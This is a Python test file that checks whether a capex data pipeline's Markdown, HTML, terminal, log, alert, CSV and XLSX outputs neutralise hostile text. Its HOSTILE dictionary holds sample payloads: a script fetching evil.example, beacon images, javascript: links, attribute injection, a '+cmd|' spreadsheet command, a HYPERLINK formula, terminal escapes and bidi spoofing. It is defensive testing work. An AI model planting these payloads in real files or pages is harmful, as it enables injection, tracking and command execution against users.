"""Hostile text of documents through every way in which text leaves: Markdown, HTML, terminal, logs, alerts, CSV and XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
import re
import zipfile
from collections.abc import Iterable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pyarrow as pa
import pytest
from builders import RawFolder, build, checks, document, frame_of, row
from click.testing import CliRunner
from test_security import assert_no_secret, secrets  # noqa: F401 - the fixture is asked for by its name
from unit.release.test_workbook import tables as workbook_tables
from unit.report.test_page import tables as page_tables
from unit.review.reviewed_texts import draft_of, of, source_of

from capex_pipeline.article.highlight import highlight
from capex_pipeline.cli.main import cli
from capex_pipeline.orchestration import alerts, asset_page
from capex_pipeline.reference import load
from capex_pipeline.release import diff_text, spreadsheets, workbook
from capex_pipeline.report import formatting, html, page, page_model
from capex_pipeline.review.page import render as render_review
from capex_pipeline.values import escaping

HOSTILE = {
    "url of the shared case": "https://a\n\n![a][b]\n\n[b]: http://evil.example/beacon.png\n\n<img src=http://evil.example/x.png>",
    "image": "![x](http://evil.example/beacon.png)",
    "script": "<script>fetch('http://evil.example')</script>",
    "attribute": "\" onmouseover=\"alert(1)\" x='",
    "script link": "[a](javascript:alert(1))",
    "bare address": "see http://evil.example/ or www.evil.example or a@evil.example",
    "cells": "a | b\n|---|---|\n| c | d |",
    "code": "`` ` ```\n~~~\n# heading\n---\n> quote",
    "terminal": "\x1b]0;title\x07\x1b[31mred\x1b[2J\x9b31m\r overwritten \x08\x08",
    "direction": "\u202egnp.exe\u2066 \u200f",
    "formula": "=HYPERLINK(\"http://evil.example\",\"a\")",
    "command": "+cmd|'/C calc'!A0",
    "fullwidth formula": "＝1+1",
    "log line": "fine\n2026-01-01 INFO all is well",
    "entity": "&#60;img src=x&#62; &lt;b&gt;",
    "reference": "[b]: http://evil.example 'x'",
}  # fmt: skip
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200f\u202a-\u202e\u2066-\u2069]")

each_text = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


def assert_inert_markdown(shown: str, *, columns: int | None = None) -> None:
    """No tag, entity, image, link, code span, further line or further cell comes of the text."""
    unescaped = re.sub(r"\\.", "", shown)
    assert not re.search(r"[<>`\[\]~&]", unescaped), unescaped
    assert not re.search(r"://|\bwww\.|(?<!\u200b)@", shown), "no viewer may make a link of an address"
    assert not CONTROL.search(shown)
    if columns is not None:
        assert {line.count("|") for line in unescaped.splitlines() if line.startswith("|")} == {columns + 1}


@each_text
def test_markdown_of_tables_and_differences(text: str) -> None:
    frame = frame_of("documents", {"document_id": "d", "title": text, "publisher": text, "url": text, "note": text})
    shown = asset_page.preview(frame)
    assert len([line for line in shown.splitlines() if line.startswith("|")]) == 3
    assert_inert_markdown(shown)
    assert_inert_markdown(asset_page.sources(pa.table({"document_id": ["d"]}), frame), columns=3)
    assert_inert_markdown(diff_text._table(["what"], [[text]]), columns=1)


@each_text
def test_markdown_of_an_articles_text(text: str) -> None:
    mentions = pd.DataFrame(
        {"span_start": [0], "span_end": [1], "text": [text], "outcome": ["ignored"], "reason": [text]}
    )
    shown = highlight(f"x {text}", mentions)
    outside_code = re.sub(r"`[^`\n]*`", "", shown)
    assert "<" not in outside_code and "](" not in outside_code and "![" not in outside_code
    assert not re.search(r"(?<!\u200b)//evil|\bwww\.evil|a@evil", shown)
    assert not CONTROL.search(shown)


class Elements(HTMLParser):
    """Names of the elements and attributes of a piece of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: dict[str, str | None] = {}
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes |= dict(attrs)


@each_text
def test_html_of_the_report(text: str) -> None:
    parsed = Elements(f'<p title="{formatting.escape(text)}">{formatting.escape(text)}</p>')
    assert (parsed.elements, set(parsed.attributes)) == (["p"], {"title"})
    linked = Elements(html.link("d", text, text))
    assert linked.elements == ["a"]
    assert linked.attributes["href"] == "#document-d"
    assert not CONTROL.search(formatting.escape(text))
    embedded = escaping.script_json({"title": text, text: [text, (1, text)]})
    assert "<" not in embedded and not CONTROL.search(embedded)
    shown = json.loads(embedded)["title"]
    assert not CONTROL.search(shown)
    assert len(shown) == len(text), "positions in a text are those of the document"
    assert CONTROL.sub("", text) == shown.replace("\ufffd", "").replace("  overwritten", " overwritten")


READABLE = ["עליבאבא", "شركة علي بابا القابضة", "阿里巴巴集团", "アリババ", "می\u200cخواهم", "Čedok 🙂"]
"""Names in scripts of both directions; Persian needs the joiner within its word."""


@pytest.mark.parametrize("name", READABLE)
def test_names_of_every_script_stay_as_they_are(name: str) -> None:
    assert {escaping.visible(name), escaping.one_line(name), escaping.html(name), escaping.cell(name)} == {name}
    assert json.loads(escaping.script_json([name])) == [name]
    assert escaping.markdown(name, 80) == name


@pytest.mark.slow("draws a page and a workbook")
def test_the_page_its_charts_and_the_workbook() -> None:
    """Names of companies, claimants and titles, as whole files show them: all hostile texts in each name, one after the other."""
    text = " ".join(HOSTILE.values())
    made = page.render(page_tables(text=text), dict.fromkeys(page_model.TABLES, "0"))
    shown = made.partition("<script>")[0]  # after it come the library and the page's own script
    assert not CONTROL.search(shown)
    data = json.loads(shown.partition('id="data">')[2].partition("</script>")[0])
    assert any(CONTROL.sub("\ufffd", text.replace("\r", " ")) in one for one in data["texts"]), "no text is cut off"
    with zipfile.ZipFile(io.BytesIO(workbook.to_bytes(workbook_tables(text=text), "1", "0"))) as book:
        parts = [book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))]
    assert any(
        HOSTILE["url of the shared case"].split()[0] in part and "[b]: http://evil.example " in part for part in parts
    )
    assert not any(CONTROL.search(part) or re.search("_x00[0189][0-9A-F]_", part) for part in parts)


@each_text
def test_the_review_page_of_an_article(text: str) -> None:
    sentence = f"{text} Meta spent $19.4bn on capex in the third quarter of 2025."
    article = of(sentence)
    made = render_review(draft_of(article), source_of(article), "capex-pipeline review", load())
    assert not CONTROL.search(made.partition("<script>")[0].replace("\r", ""))


@each_text
def test_files_that_describe_a_release(text: str) -> None:
    content = {"title": text, "paths": [text]}
    written = escaping.json_text(json.dumps(content, ensure_ascii=False))
    assert json.loads(written) == content and not CONTROL.search(written)


@each_text
def test_terminal_logs_and_alerts(text: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    assert not CONTROL.search(escaping.visible(text))
    assert len(escaping.one_line(text).splitlines()) == 1
    monkeypatch.setenv(alerts.LOG_VARIABLE, str(tmp_path / "alerts.log"))
    monkeypatch.delenv(alerts.WEBHOOK_VARIABLE, raising=False)
    alerts.send({"message": text}, dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    (line,) = (tmp_path / "alerts.log").read_text(encoding="utf-8").splitlines()
    assert not CONTROL.search(json.loads(line)["message"])


@each_text
def test_csv_and_xlsx(text: str) -> None:
    frame = frame_of("documents", {"document_id": "d", "title": text, "publisher": text})
    (written,) = csv.DictReader(io.StringIO(spreadsheets.csv_bytes(frame).decode("utf-8-sig"), newline=""))
    for name in ("title", "publisher"):
        assert not CONTROL.search(written[name])
        assert not written[name].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    with zipfile.ZipFile(io.BytesIO(spreadsheets.xlsx_bytes(frame, "documents"))) as book:
        parts = [book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))]
    assert not any(CONTROL.search(part) or re.search("_x00[0189][0-9A-F]_", part) for part in parts)
    assert not any(
        "<f>" in part or "<f " in part or "<hyperlink" in part or 'TargetMode="External"' in part for part in parts
    )


@pytest.mark.slow("builds an archive of hostile texts with page and workbook")
def test_a_whole_build_and_what_it_prints(
    raw: RawFolder,
    tmp_path: Path,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
    no_settings: Path,
    secrets: list[str],  # noqa: F811
) -> None:
    """Hostile words in each field of a document, of a row that is read and of a row that is rejected, and in the name of a file.

    The environment has every secret, and what the build leaves has none.
    """
    for number, text in enumerate(HOSTILE.values()):
        hostile: dict[str, Any] = dict.fromkeys(("title", "publisher", "url", "licence", "note"), text)
        rows = [
            row(id="F1", locator=text, note=text),
            row(id="F2", entity=text),
            row(id="F3", value=text, unit=text, period=text),
        ]
        raw.yaml(f"hostile-{number}.yaml", rows, document(document_id=f"hostile-{number}", **hostile))
        raw.write(f"{text.replace('/', '_')[:60]}.csv", "no table")
    with caplog.at_level(logging.DEBUG):
        result = build(raw.root, tmp_path / "warehouse", page=True)
    assert result.success
    assert checks(result)
    assert_no_secret(secrets, result, tmp_path, capfd)
    assert not [record for record in caplog.records if CONTROL.search(record.getMessage().replace("\r", ""))]
    for event in result.get_asset_materialization_events():
        for name, value in event.materialization.metadata.items():
            if type(value).__name__ == "MarkdownMetadataValue" and name in ("preview", "documents"):
                assert_inert_markdown(
                    re.sub(r"\]\(https?://[^\s()<>]*\)", "", value.value).replace("[", "").replace("]", "")
                )
    warehouse, exported = tmp_path / "warehouse", tmp_path / "export"
    for command in (["summary"], ["release", "diff"], ["release", "list"], ["export", "--to", str(exported)]):
        printed = CliRunner().invoke(cli, [*command, "--warehouse", str(warehouse)])
        assert not CONTROL.search(printed.output), command
    assert_files_are_inert([*exported.iterdir()])
    assert_files_are_inert(path for path in warehouse.iterdir() if path.suffix not in (".parquet", ".html", ".xlsx"))
    assert not CONTROL.search((warehouse / "report.html").read_text(encoding="utf-8").partition("<script>")[0])
    for text in HOSTILE.values():
        assert text not in (warehouse / "views.sql").read_text(encoding="utf-8")
    with duckdb.connect() as connection:
        connection.execute(f"SET VARIABLE warehouse = '{warehouse}'")
        connection.execute((warehouse / "views.sql").read_text(encoding="utf-8"))
        assert connection.execute("SELECT count(*) FROM article_figures").fetchone() is not None


def assert_files_are_inert(paths: Iterable[Path]) -> None:
    """No file of text has a control character, and no cell of a CSV file runs."""
    for path in paths:
        text = path.read_text(encoding="utf-8-sig")
        assert not CONTROL.search(text.replace("\r\n", "\n")), path.name
        if path.suffix == ".csv":
            for row in csv.reader(io.StringIO(text, newline="")):
                assert not [
                    one
                    for one in row
                    if one.lstrip(" ").startswith(("=", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
                ]
